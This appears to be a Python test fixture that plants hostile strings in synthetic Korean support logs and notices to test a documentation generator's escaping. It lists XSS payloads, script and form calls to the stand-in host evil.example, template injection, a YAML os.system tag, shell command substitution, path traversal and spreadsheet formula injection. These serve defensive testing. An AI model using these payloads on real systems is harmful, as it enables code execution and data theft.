"""Hostile texts as a customer, an agent or the writer of a notice could plant them, and the log that plants them.

In each text `§` stands for its mark, a word that occurs nowhere else. With `harmless` the mark alone is planted, in the
same places: what a site of that has is what a site may have.
"""

import html
import json
import unicodedata
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone

from tests.readers import test_notice_docx as word

TEXTS: dict[str, tuple[str, ...]] = {
    "html": (
        "<script>alert('§')</script>",
        "<ScRiPt src=//evil.example/§.js></sCrIpT>",
        "<img src=x onerror=alert('§')>",
        "<svg/onload=alert('§')>",
        "<svg><script>alert('§')</script></svg>",
        "<iframe src=\"https://evil.example/§\"></iframe>",
        "<style>body{display:none} .§{}</style>",
        "<!-- § comment -->",
        "<!-- § never closed",
        "--> § <b>",
        "<a href='javascript:alert(\"§\")'>link</a>",
        "<form action=https://evil.example><input name=§></form>",
        "<b onclick=alert(1)>§",
        "<div hidden>§",
        "</p></article></main></body> §",
        "</title><script>alert('§')</script>",
        "</script><script>alert('§')</script>",
        "</textarea></noscript><img src=§ onerror=alert(1)>",
        "\"><script>alert('§')</script>",
        "' autofocus onfocus=alert('§') x='",
        "&lt;script&gt;alert('§')&lt;/script&gt;",
        "&#60;img src=x onerror=alert('§')&#62;",
        "&amp;lt;b&amp;gt; § &copy; &nbsp;",
        "&#x3c;svg onload=alert('§')&#x3e;",
        "<![CDATA[ § ]]>",
        "<?php echo '§' ?>",
        "<§",
        "<math><mtext><img src=x onerror=alert('§')></mtext></math>",
        "<meta http-equiv=refresh content='0;url=//evil.example/§'>",
        "<base href=//evil.example/§/>",
        "<link rel=stylesheet href=//evil.example/§.css>",
        "<div markdown=1 class=§>",
        "<p hidden>§</p>",
    ),
    "markdown": (
        "[여기 §](javascript:alert(1))",
        "[§](data:text/html;base64,PHNjcmlwdD4=)",
        "[§](//evil.example/page \"title\")",
        "[§](<javascript:alert(1)>)",
        "![§](x onerror=alert(1))",
        "![](//evil.example/§.png)",
        "[![§](x)](javascript:alert(1))",
        "<javascript:alert('§')>",
        "<//evil.example/§>",
        "[§]: javascript:alert(1) \"x\"",
        "[^§]: javascript:alert(1)",
        "[^§] and [^1]",
        "[§][1] [1]",
        "# § heading",
        "###### § heading ######",
        "> § quoted",
        ">> § quoted twice",
        "+ § plus list",
        "* § star list",
        "0. § ordered",
        "| § | b |",
        "|---|---| §",
        "§ | b | c",
        "``` § fence",
        "```python § ```",
        "~~~~ § fence",
        "`` § code ``",
        "`<script>alert('§')</script>`",
        ": § definition",
        "*§* and **§**",
        "_§_ and __§__ and ***§***",
        "~~§~~ ~§~",
        "==§== ^^§^^ ^§^",
        "[ ] § task",
        "[x] § task done",
        "<div markdown=\"1\"> **§**",
        "!!! note \"§\"",
        "!!! danger § { onclick=alert(1) }",
        "??? tip \"§\"",
        "???+ warning \"§\"",
        "=== \"§\"",
        "{: onclick=alert('§') }",
        "§ {: .hidden #id style=\"display:none\" }",
        "§ { .md-button #__config }",
        "§ { #§ data-x=1 }",
        ":material-skull: :§: :smile:",
        "++ctrl+alt+§++",
        "{++§++} {--§--}",
        "{~~a~>§~~} {==§==} {>>§<<}",
        "$§$ and $$x$$",
        "\\(§\\) and \\[§\\]",
        "--8<-- \"/etc/passwd\" §",
        ";--8<-- \"kbgen.toml\" §",
        "*[HTML]: §",
        "@§ #§ gh-§",
        "[TOC] §",
        "[[§]] [[../../secret]]",
        "§ \\",
        "\\<b\\>§\\</b\\>",
        "*** §",
        "/// details | §",
        "::: § kbgen.models",
        "%% § %% mermaid",
    ),
    "template": (
        "{{ config.§ }}",
        "{{ 7*7 }} §",
        "{{ self.__init__.__globals__['§'] }}",
        "{% include '§' %}",
        "{% raw %} § {% endraw %}",
        "{% endblock %} § {% block scripts %}",
        "{# § #}",
        "${§} #{§} <%= § %>",
        "{{{§}}} {{§",
        "{%- set x = '§' -%}",
        "$(touch §) `touch §`",
        "%s %(§)s {0} {§}",
    ),
    "yaml": (
        "--- § ---",
        "... § ...",
        "!!python/object/apply:os.system [§]",
        "&§ *§ <<: *§",
        "title: § # comment",
        "§: value: more:",
        "- § - item",
        "\"§",
        "'§'' \"",
        "{§: 1, kbgen: {status: published}}",
        "[§, null, ~]",
        "? § : null",
        "| § >-",
        "%YAML 1.2 §",
        "§ ends with a colon:",
        "\t§\ttabs\t",
        "kbgen: {status: archived} §",
        "template: § hide: [navigation]",
        "null § true no 2026.01.02",
    ),
    "path": (
        "../../../§",
        "..\\..\\windows\\§",
        "/etc/§",
        "C:\\§\\x",
        "%2e%2e%2f%2e%2e%2f§",
        "\\\\host\\share\\§",
        "file:///etc/§",
        "~/§ $HOME/§",
        "content/../§.md",
        "CON NUL §.md",
        "./§/index.html#x?y=1",
    ),
    "formula": (
        "=cmd|'/c calc'!§",
        "=HYPERLINK(\"x\",\"§\")",
        "+cmd|§!x",
        "@SUM(§)",
        "-cmd|§",
        "\t=§",
    ),
    "unicode": (
        "\u202e§\u202c reversed",
        "\u2066§\u2069 isolate",
        "\u200b§\u200d zero",
        "\ufeff§ mark",
        "nul \u0000§",
        "bell \u0007\u001b[31m§",
        "\u2028§\u2029 line",
        "\u0085§ next line",
        "＜script＞alert('§')＜/script＞",
        "﹤img src=x onerror=alert('§')﹥",
        "\ud800§ surrogate",
        "\ufffe§\uffff no characters",
        "§\U000e0001\U000e0041 tags",
        "e\u0301\u0327\u0300\u0301\u0302\u0303§ marks",
        "\u0002klzzwxh:0000\u0003§",
        "STX\u0002§\u0003ETX wzxhzdk:0",
    ),
    "long": (
        "§ " + "<b>" * 60,
        "[" * 70 + "§" + "]" * 70,
        "§" + "\\" * 99,
        "*_" * 60 + "§",
    ),
}  # fmt: skip

THINGS = (
    "라벤더 양초 유리컵 도자기 대나무 돗자리 은수저 놋그릇 찻잔 물병 손전등 텐트 침낭 배낭 등산화 우산 장화 모자 목도리 장갑 "
    "털실 뜨개바늘 재봉틀 단추 지퍼 가위 풀 색종이 크레파스 물감 붓 캔버스 액자 거울 빗 비누 샴푸 칫솔 수건 베개 이불 매트리스 "
    "책상 의자 책장 서랍 옷걸이 커튼 카펫 전구 스탠드 선풍기 가습기 난로 주전자 냄비 프라이팬 국자 도마 식칼 접시 젓가락 쟁반 "
    "보온병 도시락 커피콩 홍차 녹차 꿀단지 잼 식빵 버터 치즈 우유 두부 콩나물 시금치 당근 양파 마늘 고추장 된장 간장 식초 "
    "참기름 소금 설탕 밀가루 국수 라면 만두 떡 김치 멸치 미역 새우 오징어 고등어 자전거 헬멧 킥보드 스케이트 수영복 물안경 "
    "라켓 셔틀콕 농구공 글러브 바둑판 장기판 퍼즐 인형 블록 기차 피아노 바이올린 기타 하모니카 북 화분 삽 호미 물뿌리개 씨앗 "
    "비료 새장 어항 목줄 사료 캣타워 카메라 삼각대 렌즈 망원경 현미경 나침반 지구본 시계 달력 공책 연필 지우개 만년필 편지지 "
    "봉투 우표 저금통 지갑 가방 벨트 반지 목걸이 귀걸이 안경 돋보기 부채 연 팽이 윷 그네 시소 미끄럼틀 해먹 평상"
).split()
"""Things to speak of, each in one sentence."""

_PLACES = ("남쪽 창고", "파란 선반", "지하 작업실", "옥상 온실", "뒷마당", "동관 복도", "유리 진열장")
_DEEDS = ("보관합니다", "포장합니다", "손질합니다", "전시합니다", "수선합니다")
SUBJECTS = (
    "회원권 휴회",
    "개인 락커",
    "수업 예약",
    "주차장 이용",
    "포인트 적립",
    "카드 영수증",
    "선물 포장",
    "정기 구독",
    "단체 관람",
    "택배 보관함",
    "비밀번호 변경",
    "강아지 동반",
    "환불 계좌",
    "좌석 배정",
    "통역 기기",
    "유모차 대여",
    "어린이 체험",
    "할인 쿠폰",
)
KST = timezone(timedelta(hours=9))


@dataclass(frozen=True, slots=True)
class Planted:
    """A hostile text with its mark in it; `thing` is what the sentence around it speaks of."""

    kind: str
    mark: str
    text: str
    thing: str
    number: int

    @property
    def sentence(self) -> str:
        """What an agent says of the thing; the text begins the sentence, or ends it."""
        place, deed = _PLACES[self.number % 7], _DEEDS[self.number % 5]
        said = f"{self.thing} {place}에서 {deed}"
        return f"{said} {self.text}" if self.number % 3 == 2 else f"{self.text} {said}"


def mark(number: int) -> str:
    """Return a word of letters alone that no text has."""
    return f"qz{chr(97 + number // 26)}{chr(97 + number % 26)}v"


def planted(*, harmless: bool = False) -> tuple[Planted, ...]:
    """Return all hostile texts; with `harmless`, the marks alone in their places."""
    texts = [(kind, text) for kind, found in TEXTS.items() for text in found]
    return tuple(
        Planted(kind, mark(n), mark(n) if harmless else text.replace("§", mark(n)), THINGS[n], n)
        for n, (kind, text) in enumerate(texts)
    )


def log(texts: tuple[Planted, ...]) -> str:
    """Return a log, one conversation a line: of each subject five, in which agents say ten hostile texts, the first
    three as steps, and customers ask with others."""
    lines = []
    for n, (subject, own) in enumerate(zip(SUBJECTS, batches(texts, len(SUBJECTS)), strict=True)):
        steps = (
            "\n".join(f"{i}) {p.sentence}" for i, p in enumerate(own[:3], 1)) + "\n4) 아래쪽 [완료]를 누릅니다."
            if n % 3 == 0
            else ""
        )
        said = [f"{subject}: 앱에서 [마이 > 신청]을 누르시면 됩니다.", *filter(None, [steps])]
        said += [p.sentence for p in own[3 if steps else 0 :]]
        for i in range(5):
            asked, author = own[(2 * i) % len(own)], own[(2 * i + 1) % len(own)].text
            opened = datetime(2026, 8, 1 + i, 10, n, tzinfo=KST).isoformat()
            question = (f"{asked.text} {subject} 어떻게 하나요?", f"{subject} {asked.text} 어떻게 하나요?")[i % 2]
            turns = [("customer", question), *(("agent", text) for text in said)]
            messages = [{"at": opened, "role": role, "author": author + role, "text": text} for role, text in turns]
            # Lone surrogates are written as JSON's escapes, as an export does.
            record = {"id": f"{asked.text}{n}-{i}", "opened_at": opened, "tags": [asked.text], "messages": messages}
            lines.append(json.dumps(record, ensure_ascii=True))
    return "\n".join(lines) + "\n"


def batches(texts: tuple[Planted, ...], count: int) -> Iterator[tuple[Planted, ...]]:
    """Yield the texts in `count` parts, every kind in each of them."""
    for n in range(count):
        yield texts[n::count]


def notices(texts: tuple[Planted, ...]) -> dict[str, bytes]:
    """Return two notices in each of the four formats, by file name; every text is in its title, a heading, a paragraph,
    an item or a row of a table."""
    made = {}
    for n, own in enumerate(batches(texts, 8)):
        suffix = ("html", "md", "txt", "docx")[n % 4]
        # One name a notice, whatever is planted, so that it has the same place in every build.
        made[f"{n} ..%2f..\\{{{{ x }}}} <b onclick=x> --8<-- #.{suffix}"] = _WRITERS[suffix](_parts(own))
    return made


def _parts(texts: tuple[Planted, ...]) -> list[tuple[str, str]]:
    """Return the parts of a notice: what each is, and its text."""
    title, *rest = texts
    found = [
        ("title", f"{_writable(title.text)} 감사 세일"),
        ("paragraph", "행사 기간은 2026년 9월 1일부터 9월 30일까지입니다."),
    ]
    for n, p in enumerate(rest):
        if n % 6 == 0:
            found.append(("heading", f"{_writable(p.text)} {p.thing} 안내"))
        found.append((("paragraph", "item", "row")[n % 3], f"{_writable(p.sentence)}."))
    return found


def _writable(text: str) -> str:
    """Return a text as a file in UTF-8, or the XML of a document, can hold it, on one line."""
    kept = "".join(c for c in text if c.isprintable() or unicodedata.category(c) == "Cf")
    return kept.replace("\ufffe", "").replace("\uffff", "")


def _html(parts: list[tuple[str, str]]) -> bytes:
    tags = {
        "title": "<title>{0}</title><h1>{0}</h1>",
        "heading": "<h2>{0}</h2>",
        "paragraph": "<p>{0}</p>",
        "item": "<ul><li>{0}</li></ul>",
        "row": "<table border=1><tr><th>구분</th><th>내용</th></tr><tr><td>품목</td><td>{0}</td></tr></table>",
    }
    lines = [tags[kind].format(html.escape(text)) for kind, text in parts]
    return f"<!doctype html><meta charset=utf-8>{''.join(lines)}".encode()


def _markdown(parts: list[tuple[str, str]]) -> bytes:
    shapes = {
        "title": "# {}",
        "heading": "## {}",
        "paragraph": "{}",
        "item": "- {}",
        "row": "| 구분 | 내용 |\n|---|---|\n| 품목 | {} |",
    }
    return "\n\n".join(shapes[kind].format(text) for kind, text in parts).encode()


def _text(parts: list[tuple[str, str]]) -> bytes:
    shapes = {"title": "{}", "heading": "■ {}", "paragraph": "{}", "item": "- {}", "row": "품목: {}"}
    return "\n\n".join(shapes[kind].format(text) for kind, text in parts).encode()


def _docx(parts: list[tuple[str, str]]) -> bytes:
    shapes: dict[str, Callable[[str], str]] = {
        "title": lambda text: word.paragraph(text, "T"),
        "heading": lambda text: word.paragraph(text, "H"),
        "paragraph": word.paragraph,
        "item": lambda text: word.paragraph(text, number=word.BULLET),
        "row": lambda text: word.table(("구분", "내용"), ("품목", text)),
    }
    return word.docx(*(shapes[kind](text) for kind, text in parts))


_WRITERS = {"html": _html, "md": _markdown, "txt": _text, "docx": _docx}
